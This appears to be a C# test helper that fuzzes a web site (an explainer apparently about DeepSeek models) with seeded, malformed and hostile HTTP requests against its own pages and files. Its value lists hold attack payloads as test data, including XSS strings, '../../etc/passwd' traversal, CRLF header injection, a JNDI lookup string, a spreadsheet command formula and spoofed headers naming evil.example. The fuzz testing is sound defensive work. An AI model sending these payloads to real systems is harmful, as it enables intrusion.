using System.Text;
using DeepseekExplainer.Web.Content;
using DeepseekExplainer.Web.Widgets;

namespace DeepseekExplainer.Web.Tests.Delivery;

/// <summary>A request as a stranger's program writes it.</summary>
public sealed record HostileRequest(string Method, string Address, IReadOnlyList<(string Name, string Value)> Headers, byte[] Body)
{
    public override string ToString() =>
        $"{Method} {Address} {string.Join(' ', Headers.Select(header => $"[{header.Name}: {header.Value}]"))} "
        + Encoding.Latin1.GetString(Body.AsSpan(0, Math.Min(Body.Length, 200)));
}

/// <summary>Requests made of our own addresses and of what breaks web sites: the same ones for the same seed.</summary>
internal sealed class HostileRequests(int seed, IReadOnlyList<string> addresses)
{
    /// <summary>Markup that must never come back as it was sent.</summary>
    public const string Mark = "<zq9";

    private static readonly string[] Methods =
        ["HEAD", "POST", "PUT", "DELETE", "PATCH", "TRACE", "OPTIONS", "CONNECT", "PROPFIND", "get", "", "G\u00e9T", "POST "];

    private static readonly string[] Names =
    [
        "article", "id", "widget", "lang", "status", "w", "q", "url", "fragment", "theme", "section", "v", "height", "verdict", "topic",
        "kind", "handler", "page", "area", "format", "maxwidth", "maxheight", "config", "text", "utm_source", "__RequestVerificationToken",
        "x[a", "[0].key", "",
    ];

    private static readonly string[] Values =
    [
        "", " ", "mla", "v3-cost", "kv-cache", "embed", "embed/moe", "page", "dark", "json", "xml", "-1", "0", "1e400", "NaN",
        "9223372036854775808", "2026-11-23", Mark + " onload=alert(1)>", "\"'" + Mark, "javascript:alert(1)", "../../etc/passwd",
        "%", "%ff", "%ed%a0%80", "\0", "\u0001", "\r\nSet-Cookie: a=b", "\ud800", "\ufffe", "\u202e",
        "https://explainer.example/en/moe", "https://explainer.example/en/w/kv-cache?tokens=7", "//evil.example",
        "https://evil.example/en/moe", "{\"\\ud800\":1}", "{\"text_config\":{\"\\udfff\":[]}}", "[[[[[[[[", "{\"hidden_size\":1e999}",
        new('a', 5_000), new('[', 3_000), "a,b,c,,", "=cmd|' /C calc'!A0", "${jndi:ldap://evil.example}", "{{7*7}}",
    ];

    private static readonly string[] Types =
    [
        "application/x-www-form-urlencoded", "application/x-www-form-urlencoded;charset=utf-7",
        "application/x-www-form-urlencoded;charset=", "multipart/form-data", "multipart/form-data; boundary=\"\"",
        "application/json", "text/plain", ";;;", "", "a/b;c=\"",
    ];

    private static readonly (string Name, string[] Values)[] Headers =
    [
        ("Accept-Encoding", ["br", "gzip", "zstd", "br;q=2", "*;q=0", ",,,", "br\u0001", "gzip;q=abc", new('g', 2_000)]),
        ("Accept-Language", ["fil", "tl;q=0.1", "*", "xx-" + new string('y', 500), "en;q=9,,", "\u00ff"]),
        ("X-Forwarded-Host", ["evil.example", Mark]),
        ("X-Forwarded-Proto", ["http", "javascript", Mark, "https, http"]),
        ("X-Forwarded-For", ["203.0.113.9", "unknown", Mark]),
        ("X-Original-URL", ["/en/mla"]),
        ("X-HTTP-Method-Override", ["DELETE"]),
        ("If-None-Match", ["*", "\"a\"", "W/\"", "a", new('"', 50)]),
        ("If-Modified-Since", ["Thu, 01 Jan 1970 00:00:00 GMT", "yesterday"]),
        ("Range", ["bytes=0-0", "bytes=-1", "bytes=9-1", "bytes=0-,1-,2-", "lines=1"]),
        ("Cookie", ["a=b; " + Mark, ".AspNetCore.Culture=c%3Dfil"]),
        ("Origin", ["null", "https://evil.example"]),
        ("Transfer-Encoding", ["chunked"]),
        ("Expect", ["100-continue"]),
        ("Connection", ["close, Host", "upgrade"]),
        ("Host", ["evil.example", "explainer.example:99999", "", Mark]),
        ("User-Agent", [Mark, "\r\n"]),
    ];

    private readonly Random _random = new(seed);

    /// <summary>The addresses of pages and files: each kind, and each thing of a kind once.</summary>
    public static IEnumerable<string> Addresses(Site site)
    {
        string[] machines =
            ["/", "/sitemap.xml", "/robots.txt", "/llms.txt", "/embed.js", "/error/404", "/.well-known/security.txt", "/oembed"];
        string[] indexes = ["", "/claims", "/facts", "/sources", "/glossary", "/corrections", "/checks", "/embed", "/search"];
        string[] files =
        [
            "/feed.xml", "/feed.json", "/facts.json", "/claims.json", "/sources.json", "/sources.bib", "/glossary.json",
            "/corrections.xml",
        ];
        var pages = site.Editions.SelectMany(edition => indexes.Concat(files)
            .Concat(edition.Articles.SelectMany(article =>
                new[] { "", ".json", ".md", ".bib", ".ninjs.json", "/embed.json" }.Select(ending => $"/{article.Slug}{ending}")))
            .Concat(WidgetList.All.SelectMany(widget =>
                new[] { "", ".json", ".csv", ".svg", "/embed.json" }.Select(ending => $"/w/{widget.Id}{ending}")))
            .Concat(site.Evidence.Claims.Keys.Take(4).SelectMany(id => new[] { $"/claims/{id}", $"/claims/{id}.json" }))
            .Concat(site.Evidence.Facts.Keys.Take(4).SelectMany(id => new[] { $"/facts/{id}", $"/facts/{id}.json" }))
            .Select(path => $"/{edition.Language}{path}"));
        var frames = site.Editions.SelectMany(edition => edition.Articles.Select(article => "/" + article.Slug)
            .Concat(WidgetList.All.Select(widget => "/w/" + widget.Id))
            .Select(path => $"/embed/{edition.Language}{path}"));
        return [.. machines, .. pages, .. frames];
    }

    /// <summary>The next request: mostly one thing is odd, sometimes all of it.</summary>
    public HostileRequest Next()
    {
        var address = OneIn(12) ? Odd(Pick(addresses)) : Pick(addresses);
        var query = OneIn(2) ? "?" + Pairs(_random.Next(1, 4), address) : "";
        var hasBody = OneIn(4);
        var method = OneIn(4) ? Pick(Methods) : hasBody && OneIn(2) ? "POST" : "GET";
        var headers = Enumerable.Range(0, OneIn(3) ? _random.Next(1, 4) : 0).Select(_ => Pick(Headers))
            .Select(header => (header.Name, Pick(header.Values))).ToList();
        var text = OneIn(50) ? new string('a', 500_000) : OneIn(5) ? Pick(Values) : Pairs(2, address);
        var body = hasBody ? Encoding.UTF8.GetBytes(text) : [];
        if (hasBody)
        {
            headers.Add(("Content-Type", Pick(Types)));
        }

        return new(method, address + query, headers, body);
    }

    private string Pairs(int count, string address)
    {
        var own = WidgetList.All.FirstOrDefault(widget => address.Contains(widget.Id, StringComparison.Ordinal))?.Parameters;
        return string.Join('&', Enumerable.Range(0, count).Select(_ =>
            $"{(own is not null && !OneIn(3) ? Pick(own).Name : Escaped(Pick(Names)))}={Escaped(Pick(Values))}"));
    }

    private string Odd(string address) => _random.Next(8) switch
    {
        0 => address.ToUpperInvariant(),
        1 => address + "/",
        2 => address + "/%20",
        3 => "/" + address,
        4 => address.Insert(1 + _random.Next(address.Length), Pick(["%00", "%09", "%c0%af", "/../", "%2f", ";", "\u00e9", "%3C", Mark])),
        5 => address[..(1 + _random.Next(address.Length))],
        6 => address + new string('x', 3_000),
        _ => address + Pick([".json", ".png", ".php", ".svg", "/embed.json", "~", "%20.json"]),
    };

    private string Escaped(string text) =>
        OneIn(4) || text.Contains('\ud800', StringComparison.Ordinal)
            ? text.Replace("&", "", StringComparison.Ordinal) : Uri.EscapeDataString(text);

    private bool OneIn(int many) => _random.Next(many) == 0;

    private T Pick<T>(IReadOnlyList<T> list) => list[_random.Next(list.Count)];
}
